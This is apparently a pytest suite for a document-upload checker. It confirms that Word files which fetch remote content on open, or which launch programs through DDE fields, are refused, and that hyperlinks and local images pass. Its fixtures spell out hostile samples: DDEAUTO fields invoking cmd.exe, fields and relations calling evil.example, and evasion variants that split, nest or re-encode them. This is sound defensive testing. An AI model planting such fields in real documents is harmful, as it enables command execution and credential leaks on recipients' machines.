"""Documents that fetch something, or start a program, when Word opens them: refused; what waits for a click is not."""

import pytest

from documents.checking import check
from documents.errors import NotTaken
from documents.faults import Fault
from documents.kinds import Kind
from documents.looks import look
from tests.documents.samples import docx, relations

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
NAMES = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def with_part(kind: str, target: str) -> bytes:
    named = relations(f'Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"')
    return docx(**{"word/_rels/document.xml.rels": named})


def with_text(*runs: str, part: str = "word/document.xml") -> bytes:
    return docx(**{part: f"<w:document {NAMES}>{''.join(f'<w:r>{run}</w:r>' for run in runs)}</w:document>"})


def mark(what: str) -> str:
    return f'<w:fldChar w:fldCharType="{what}"/>'


def words(text: str) -> str:
    return f"<w:instrText>{text}</w:instrText>"


def refusal(content: bytes) -> str:
    with pytest.raises(NotTaken) as refused:
        check("letter.docx", content)
    assert refused.value.sentence.endswith("Open it, save it as PDF, and try again.")
    return refused.value.sentence


def found(content: bytes) -> str:
    """The same, looked at in this process."""
    with pytest.raises(Fault) as refused:
        look(Kind.ZIP, content)
    return refused.value.words


@pytest.mark.parametrize(("kind", "said"), [
    ("image", "shows a picture that it fetches from elsewhere"),
    ("video", "fetches a template or a part from elsewhere"),
    ("mailMergeSource", "fetches a template or a part from elsewhere"),
    ("oleObject", "fetches a template or a part from elsewhere"),
])  # fmt: skip
@pytest.mark.parametrize("target", ["https://evil.example/x.png", r"\\\\evil.example\x.png"])
def test_whatever_word_would_fetch_is_refused(kind: str, said: str, target: str) -> None:
    assert said in refusal(with_part(kind, target))


@pytest.mark.parametrize(("kind", "target"), [
    ("hyperlink", "https://www.council.example/"), ("image", "file:///C:/Users/me/logo.png"),
])  # fmt: skip
def test_what_waits_for_a_click_or_lies_on_the_senders_own_machine_is_taken(kind: str, target: str) -> None:
    assert check("letter.docx", with_part(kind, target)).name == "letter.docx"


def test_a_web_page_that_word_would_read_in_is_refused() -> None:
    chunk = relations(f'Id="r1" Type="{OFFICE}/aFChunk" Target="chunk.mht"')
    assert "read in as a web page or another document" in found(docx(**{"word/_rels/document.xml.rels": chunk}))


DDE = {
    "a simple field": ('<w:fldSimple w:instr=" dde cmd x"/>',),
    "a field": (mark("begin"), words(r"DDEAUTO c:\\windows\\cmd.exe"), mark("separate"), "<w:t>x</w:t>", mark("end")),
    "a field in pieces": (mark("begin"), words(" D"), words("DE"), words("AUTO cmd"), mark("end")),
    "a field that is never closed": (mark("begin"), words("DDEAUTO cmd")),
    "a field put together by another": (
        mark("begin"), mark("begin"), words("QUOTE 68 68 69"), mark("end"), words("cmd"), mark("end"),
    ),
    "a field inside another": (mark("begin"), words("IF "), mark("begin"), words("DDE cmd"), mark("end"), mark("end")),
}  # fmt: skip


@pytest.mark.parametrize("what", DDE)
def test_a_field_that_starts_another_program_is_refused(what: str) -> None:
    assert "has a field that starts other programs" in refusal(with_text(*DDE[what]))


def test_it_is_found_in_a_footer_and_in_another_encoding() -> None:
    assert "has a field" in refusal(with_text(*DDE["a field"], part="word/footer1.xml"))
    text = f"<w:document {NAMES}>{''.join(DDE['a field'])}</w:document>".encode("utf-16")
    assert "has a field" in refusal(docx(**{"word/document.xml": text}))


def test_other_fields_are_taken() -> None:
    page = (mark("begin"), words("PAGE"), mark("separate"), "<w:t>DDE</w:t>", mark("end"))
    choice = (mark("begin"), words("IF "), *page, words(' = 1 "a" "b"'), mark("end"))
    contents = (mark("begin"), words(r'TOC \o "1-3"'), mark("separate"), *page, *page, mark("end"))
    assert check("letter.docx", with_text(*choice, *contents, "<w:t>DDE is a word.</w:t>")).name == "letter.docx"


def picture_field(target: str) -> tuple[str, ...]:
    return (mark("begin"), words(f' INCLUDEPICTURE  "{target}" \\* MERGEFORMATINET \\d '), mark("end"))


ELSEWHERE = {
    "a picture": (picture_field("https://evil.example/x.png"), "shows a picture that it fetches"),
    "a picture of a file server": (picture_field(r"\\\\evil.example\\x\\y.png"), "shows a picture that it fetches"),
    "a simple field": (
        ("<w:fldSimple w:instr='IncludeText http:\\\\evil.example\\x'/>",),
        "fetches a template or a part",
    ),
    "a workbook": ((mark("begin"), words('LINK Excel.Sheet.12 "https://evil.example/x"'), mark("end")), "or a part"),
    "an address put together by another field": (
        (mark("begin"), words('INCLUDEPICTURE "'), mark("begin"), words("QUOTE 104"), mark("end"), mark("end")),
        "shows a picture that it fetches",
    ),
}


@pytest.mark.parametrize("what", ELSEWHERE)
def test_a_field_that_fetches_needs_no_relation_to_be_refused(what: str) -> None:
    runs, said = ELSEWHERE[what]
    assert said in found(with_text(*runs))


@pytest.mark.parametrize("target", [
    r"C:\\Users\\me\\logo.png", "logo.png", "cid:image001.png@01DB", "file:///C:/logo.png", r"\\\\office\\share\\logo.png",
])  # fmt: skip
def test_a_field_that_shows_a_file_on_the_senders_own_machine_is_taken(target: str) -> None:
    assert look(Kind.ZIP, with_text(*picture_field(target))) == "docx"


def test_a_field_with_a_link_to_click_on_is_taken() -> None:
    link = (mark("begin"), words('HYPERLINK "https://www.council.example/"'), mark("separate"), mark("end"))
    assert check("letter.docx", with_text(*link)).name == "letter.docx"
